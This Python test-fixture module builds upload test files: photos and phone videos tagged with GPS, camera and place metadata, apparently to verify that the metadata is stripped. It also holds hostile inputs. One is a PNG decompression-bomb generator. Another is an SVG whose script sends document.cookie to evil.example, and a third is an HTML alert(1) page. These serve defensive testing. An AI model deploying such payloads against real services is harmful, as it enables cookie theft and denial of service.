"""Real files for upload tests, built byte by byte (nothing downloaded)."""

from __future__ import annotations

import os
import struct
import subprocess
import zlib
from collections.abc import AsyncIterator
from pathlib import Path

import pyvips

SECRET_PLACE = b"Kinderdagverblijf Zonnestraal, Dorpsstraat 1"


def _tiff_entry(tag: int, kind: int, count: int, value: bytes) -> bytes:
    return struct.pack("<HHI", tag, kind, count) + value.ljust(4, b"\x00")


def gps_exif(orientation: int = 6) -> bytes:
    """An EXIF APP1 payload with an orientation and a GPS position (52.37 N, 4.89 E)."""
    ifd0_at = 8
    ifd0 = 2 + 2 * 12 + 4
    gps_at = ifd0_at + ifd0
    gps = 2 + 4 * 12 + 4
    data_at = gps_at + gps
    lat = struct.pack("<6I", 52, 1, 22, 1, 1234, 100)
    lon = struct.pack("<6I", 4, 1, 53, 1, 4567, 100)
    tiff = b"II*\x00" + struct.pack("<I", ifd0_at)
    tiff += struct.pack("<H", 2)
    tiff += _tiff_entry(0x0112, 3, 1, struct.pack("<H", orientation))
    tiff += _tiff_entry(0x8825, 4, 1, struct.pack("<I", gps_at))
    tiff += struct.pack("<I", 0)
    tiff += struct.pack("<H", 4)
    tiff += _tiff_entry(0x0001, 2, 2, b"N\x00")
    tiff += _tiff_entry(0x0002, 5, 3, struct.pack("<I", data_at))
    tiff += _tiff_entry(0x0003, 2, 2, b"E\x00")
    tiff += _tiff_entry(0x0004, 5, 3, struct.pack("<I", data_at + len(lat)))
    tiff += struct.pack("<I", 0)
    tiff += lat + lon
    return b"Exif\x00\x00" + tiff


def _segment(marker: int, payload: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload


def picture(width: int, height: int) -> pyvips.Image:
    """A picture whose left half is red and right half blue: orientation shows."""
    left = pyvips.Image.black(width // 2, height).new_from_image([220, 30, 30])
    right = pyvips.Image.black(width - width // 2, height).new_from_image([30, 30, 220])
    return left.join(right, "horizontal").copy(interpretation="srgb").cast("uchar")


def jpeg_with_secrets(width: int = 64, height: int = 32) -> bytes:
    """A JPEG with EXIF (GPS, orientation 6), XMP naming a place, and a comment."""
    plain = picture(width, height).jpegsave_buffer(Q=90, keep="none")
    xmp = (
        b"http://ns.adobe.com/xap/1.0/\x00"
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><exif:GPSLatitude>52,22.2N</exif:GPSLatitude>'
        b"<photoshop:City>" + SECRET_PLACE + b"</photoshop:City></x:xmpmeta>"
    )
    extra = _segment(0xE1, gps_exif()) + _segment(0xE1, xmp) + _segment(0xFE, SECRET_PLACE)
    return plain[:2] + extra + plain[2:]


def large_jpeg(width: int = 4000, height: int = 3000) -> bytes:
    """A 12 MP photo-like JPEG (gradients, so it compresses like a photo, not like flat colour)."""
    xyz = pyvips.Image.xyz(width, height)
    r = (xyz[0] * 255 / width).cast("uchar")
    g = (xyz[1] * 255 / height).cast("uchar")
    b = ((xyz[0] + xyz[1]) % 256).cast("uchar")
    image = r.bandjoin([g, b]).copy(interpretation="srgb")
    data: bytes = image.jpegsave_buffer(Q=90)
    return data


def png_bomb(path: Path, side: int = 50_000) -> Path:
    """A side×side 1-bit PNG of a few hundred KB that would decode to gigabytes."""
    if path.exists():
        return path

    def chunk(kind: bytes, payload: bytes) -> bytes:
        body = kind + payload
        return struct.pack(">I", len(payload)) + body + struct.pack(">I", zlib.crc32(body))

    row = b"\x00" + b"\x00" * ((side + 7) // 8)
    compressor = zlib.compressobj(9)
    block = row * 1000
    idat = bytearray()
    for _ in range(side // 1000):
        idat += compressor.compress(block)
    idat += compressor.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    path.write_bytes(
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", bytes(idat))
        + chunk(b"IEND", b"")
    )
    return path


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('https://evil.example/'+document.cookie)</script></svg>"
)
HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)
#: A file type box and the header of an ``mdat`` box that runs to the end of
#: the file: whatever follows is frame data, so the container stays well formed.
MP4_HEAD = b"\x00\x00\x00\x1cftypisom\x00\x00\x02\x00isomiso2mp41" + b"\x00\x00\x00\x00mdat"


async def mp4_stream(mib: int) -> AsyncIterator[bytes]:
    """An MP4 head and ``mib`` MiB of random frame data, streamed (never held whole)."""
    block = os.urandom(1024 * 1024)
    yield MP4_HEAD
    for _ in range(mib):
        yield block


# -- videos made by ffmpeg, carrying what a phone writes ------------------------

#: The metadata a phone puts in a video, as ffmpeg's ``-metadata`` takes it.
PHONE_METADATA = {
    "location": "+52.0907+005.1214/",
    "make": "Apple",
    "model": "iPhone 15",
    "comment": "Opgenomen bij " + SECRET_PLACE.decode(),
    "title": "Zonnestraal zandbak",
    "creation_time": "2026-05-01T10:00:00Z",
}
#: Strings of PHONE_METADATA that must not survive anywhere in the bytes.
PHONE_SECRETS = (b"52.0907", b"005.1214", b"iPhone 15", b"Zonnestraal", b"Dorpsstraat")


def phone_video(folder: Path, container: str, *, faststart: bool = False, seconds: int = 3) -> Path:
    """A short clip with a picture and a sound track, tagged like a phone's.

    ``container`` is ``mp4``, ``mov``, ``3gp`` or ``webm``; the WebM also
    carries an attachment (ffmpeg's WebM muxer writes none, so it is muxed as
    Matroska and its DocType set to a zero-padded "webm", which EBML allows).
    """
    name = f"phone-{container}{'-faststart' if faststart else ''}-{seconds}s.{container}"
    path = folder / name
    if path.exists():
        return path
    source = [
        *("-f", "lavfi", "-i", f"testsrc=size=320x240:rate=25:duration={seconds}"),
        *("-f", "lavfi", "-i", f"sine=frequency=440:duration={seconds}"),
    ]
    tags = [arg for key, value in PHONE_METADATA.items() for arg in ("-metadata", f"{key}={value}")]
    if container == "webm":
        attachment = folder / "notes.txt"
        attachment.write_bytes(b"Attachment naming " + SECRET_PLACE)
        codecs = ["-c:v", "libvpx", "-deadline", "realtime", "-b:v", "300k", "-c:a", "libopus"]
        extra = ["-attach", str(attachment), "-metadata:s:t", "mimetype=text/plain"]
        target = folder / (name + ".mkv")
        _ffmpeg([*source, *codecs, *tags, *extra, "-f", "matroska", str(target)])
        data = target.read_bytes()
        doc_type = b"\x42\x82\x88matroska"
        assert data.count(doc_type) == 1
        path.write_bytes(data.replace(doc_type, b"\x42\x82\x88webm\x00\x00\x00\x00"))
        target.unlink()
        return path
    codecs = ["-c:v", "libx264", "-preset", "ultrafast", "-pix_fmt", "yuv420p", "-c:a", "aac"]
    flags = "+use_metadata_tags" + ("+faststart" if faststart else "")
    _ffmpeg([*source, *codecs, *tags, "-movflags", flags, str(path)])
    return path


def hevc_video(folder: Path, *, seconds: int = 2, size: str = "320x240") -> Path:
    """An iPhone-like clip: HEVC (``hvc1``) and AAC in QuickTime MOV, ``moov`` last."""
    path = folder / f"hevc-{size}-{seconds}s.mov"
    if path.exists():
        return path
    source = [
        *("-f", "lavfi", "-i", f"testsrc=size={size}:rate=25:duration={seconds}"),
        *("-f", "lavfi", "-i", f"sine=frequency=440:duration={seconds}"),
    ]
    codecs = [
        *("-c:v", "libx265", "-preset", "ultrafast", "-x265-params", "log-level=error"),
        *("-tag:v", "hvc1", "-pix_fmt", "yuv420p", "-c:a", "aac"),
    ]
    _ffmpeg([*source, *codecs, str(path)])
    return path


def _ffmpeg(args: list[str]) -> None:
    subprocess.run(
        ["ffmpeg", "-nostdin", "-loglevel", "error", "-y", *args], check=True, timeout=120
    )


# -- photos as cameras write them -----------------------------------------------

#: What exiftool writes into a camera photo (and what must not come back).
CAMERA_TAGS = {
    "Make": "Apple",
    "Model": "iPhone 15",
    "Software": "17.1",
    "Artist": "Juf Anna",
    "Copyright": "Zonnestraal",
    "DateTimeOriginal": "2026:05:01 10:00:00",
    "GPSLatitude": "52.0907",
    "GPSLatitudeRef": "N",
    "GPSLongitude": "5.1214",
    "GPSLongitudeRef": "E",
    "XMP:City": "Utrecht",
    "IPTC:Keywords": "Zonnestraal",
    "Comment": "Dorpsstraat 1",
}


def camera_jpeg(
    folder: Path, width: int = 256, height: int = 128, orientation: int = 6, *, p3: bool = False
) -> Path:
    """A JPEG tagged like a phone's: EXIF (GPS, camera, time, orientation), XMP,
    IPTC, a comment and bytes after the end marker; with ``p3`` a Display P3
    ICC profile. The picture's left half is red, its right half blue."""
    path = folder / f"camera-{width}x{height}-o{orientation}{'-p3' if p3 else ''}.jpg"
    if path.exists():
        return path
    image = picture(width, height)
    if p3:
        image = image.icc_transform("p3")
    path.write_bytes(image.jpegsave_buffer(Q=90, keep="icc" if p3 else "none"))
    tags = [f"-{key}={value}" for key, value in CAMERA_TAGS.items()]
    subprocess.run(
        ["exiftool", "-q", "-overwrite_original", *tags, f"-Orientation#={orientation}", str(path)],
        check=True,
        timeout=60,
    )
    with path.open("ab") as out:
        out.write(b"trailing bytes naming " + SECRET_PLACE)
    return path


def camera_heic(folder: Path, width: int = 256, height: int = 128, orientation: int = 6) -> Path:
    """A real HEIC made by heif-enc (libheif) from :func:`camera_jpeg`: HEVC
    pixels with the camera's EXIF (GPS, make, model, orientation) kept."""
    path = folder / f"camera-{width}x{height}-o{orientation}.heic"
    if not path.exists():
        source = folder / f"heic-source-{width}x{height}-o{orientation}.jpg"
        source.write_bytes(camera_jpeg(folder, width, height, orientation).read_bytes())
        subprocess.run(
            ["heif-enc", "-q", "80", "-o", str(path), str(source)],
            check=True,
            capture_output=True,
            timeout=60,
        )
    return path
